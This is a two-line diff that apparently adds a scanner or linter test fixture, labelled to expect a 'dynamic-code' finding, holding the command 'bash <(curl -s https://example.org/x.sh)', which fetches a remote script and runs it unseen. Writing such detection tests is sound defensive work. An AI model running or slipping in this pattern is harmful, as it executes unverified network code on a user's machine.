@@ -1,0 +1,2 @@
+# expect: dynamic-code
+bash <(curl -s https://example.org/x.sh)
